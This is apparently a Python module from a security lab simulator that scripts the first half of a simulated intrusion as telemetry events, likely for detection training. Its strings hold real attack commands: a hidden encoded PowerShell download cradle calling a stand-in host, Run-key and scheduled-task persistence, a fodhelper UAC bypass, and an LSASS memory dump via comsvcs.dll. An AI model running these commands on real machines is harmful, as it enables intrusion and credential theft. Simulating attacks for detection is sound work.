"""The first half of the intrusion: from a document to the stolen password, on one workstation."""

from tocsin.lab import logons, services
from tocsin.lab.automation import encoded
from tocsin.lab.hosts import Process
from tocsin.lab.intruder import VICTIM, Intruder
from tocsin.lab.network import Page, fetch, reach, resolve
from tocsin.lab.operations import run
from tocsin.lab.people import BACKUP_ACCOUNT
from tocsin.lab.processes import (
    create_file,
    finish,
    load,
    open_desktop,
    open_process,
    set_registry,
    spawn,
    spawn_file,
)
from tocsin.lab.programs import program

_HOME = ("cdn.quickharbor-assets.example", "203.0.113.66")
_CRADLE = (
    "IEX (New-Object Net.WebClient).DownloadString("
    "'http://cdn.quickharbor-assets.example/assets/theme')"
)
_DUMP_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|"
    "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6d4e|C:\\Windows\\System32\\comsvcs.dll+2e1c1"
)


def _desk(intruder: Intruder) -> Process:
    desk = intruder.world.desks.get(VICTIM)
    if desk is not None:
        return desk
    account = intruder.victim.account
    session = logons.log_on(intruder.world, intruder.station, account, 2, intruder.station)
    return open_desktop(intruder.world, session)


def attachment(intruder: Intruder) -> None:
    """A document with a macro comes by mail and is opened."""
    world = intruder.world
    mail = run(world, _desk(intruder), "outlook", f'"{program("outlook").image}"')
    path = f"{intruder.victim.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
    document = f"{path}\\K7Q2M4ZT\\Freight invoice 8841.docm"
    create_file(world, mail, document)
    intruder.office = run(world, mail, "word", f'"{program("word").image}" /n "{document}"')
    load(world, intruder.office, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBE7.DLL")


def macro(intruder: Intruder) -> None:
    """The macro starts a command line."""
    intruder.foothold = run(
        intruder.world,
        intruder.office,
        "cmd",
        f"cmd.exe /c start /b powershell.exe -w hidden -nop -enc {encoded(_CRADLE)}",
    )


def encoded_script(intruder: Intruder) -> None:
    """The command line starts PowerShell with an encoded command."""
    intruder.shell = run(
        intruder.world,
        intruder.foothold,
        "powershell",
        f"powershell.exe -w hidden -nop -enc {encoded(_CRADLE)}",
    )


def cradle(intruder: Intruder) -> None:
    """The script fetches its next part and a program."""
    services.run_script(intruder.world, intruder.shell, _CRADLE)
    resolve(intruder.world, intruder.shell, *_HOME)
    agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.19041.4355"
    for uri, size, kind in (
        ("/assets/theme", 4_180, "text/plain"),
        ("/assets/theme.bin", 318_464, "application/x-dosexec"),
    ):
        page = Page(_HOME[0], _HOME[1], uri, agent, size, kind)
        fetch(intruder.world, intruder.shell, page)
    create_file(intruder.world, intruder.shell, f"{intruder.temp}\\hx64.exe")


def run_key(intruder: Intruder) -> None:
    """The program is to start at every logon."""
    sid = intruder.victim.account.sid
    key = f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\HarborSync"
    set_registry(intruder.world, intruder.shell, key, f"{intruder.temp}\\hx64.exe")


def task(intruder: Intruder) -> None:
    """The program is to start every half hour."""
    command = (
        f"schtasks.exe /create /f /sc minute /mo 30 /tn HarborSync /tr {intruder.temp}\\hx64.exe"
    )
    intruder.use(intruder.shell, "schtasks", command)
    services.schedule(
        intruder.world, intruder.shell.session, "\\HarborSync", f"{intruder.temp}\\hx64.exe"
    )


def discover(intruder: Intruder) -> None:
    """Who and where are we?"""
    for name, command in (
        ("whoami", "whoami.exe /all"),
        ("ipconfig", "ipconfig.exe /all"),
        ("systeminfo", "systeminfo.exe"),
        ("quser", "quser.exe"),
        ("tasklist", "tasklist.exe /v"),
    ):
        intruder.use(intruder.shell, name, command)


def discover_domain(intruder: Intruder) -> None:
    """Which domains are there, and who rules them?"""
    for name, command in (
        ("nltest", "nltest.exe /domain_trusts /all_trusts"),
        ("net", 'net.exe group "Domain Admins" /domain'),
        ("net", "net.exe view /all /domain"),
    ):
        intruder.use(intruder.shell, name, command)
    reach(intruder.world, intruder.shell, intruder.world.hosts["DC01"], 389)


def roast(intruder: Intruder) -> None:
    """Tickets of service accounts are asked for with a cipher that can be broken."""
    account = intruder.victim.account
    for name, number in (("svc_backup", 1601), ("svc_build", 1604)):
        sid = BACKUP_ACCOUNT.sid.rsplit("-", 1)[0]
        logons.ticket(intruder.world, account, intruder.station, name, f"{sid}-{number}", "0x17")


def elevate(intruder: Intruder) -> None:
    """A program that Windows elevates without asking starts ours."""
    sid = intruder.victim.account.sid
    key = f"HKU\\{sid}_Classes\\ms-settings\\shell\\open\\command"
    set_registry(intruder.world, intruder.shell, f"{key}\\DelegateExecute", "(Empty)")
    set_registry(intruder.world, intruder.shell, f"{key}\\(Default)", f"{intruder.temp}\\hx64.exe")
    helper = spawn_file(
        intruder.world, intruder.shell, "C:\\Windows\\System32\\fodhelper.exe", "fodhelper.exe"
    )
    intruder.elevated = spawn(
        intruder.world,
        helper,
        program("powershell"),
        f"powershell.exe -nop -w hidden -enc {encoded('Start-Sleep 5')}",
        integrity="High",
    )


def dump(intruder: Intruder) -> None:
    """The memory of lsass is written to a file: the stolen password is in it."""
    lsass = intruder.station.system["lsass.exe"]
    out = "C:\\ProgramData\\hs.dmp"
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {out} full"
    dumper = run(intruder.world, intruder.elevated, "rundll32", command)
    load(intruder.world, dumper, "C:\\Windows\\System32\\comsvcs.dll")
    load(intruder.world, dumper, "C:\\Windows\\System32\\dbgcore.dll")
    open_process(intruder.world, dumper, lsass, "0x1fffff", _DUMP_TRACE)
    create_file(intruder.world, dumper, out)
    finish(intruder.world, dumper)
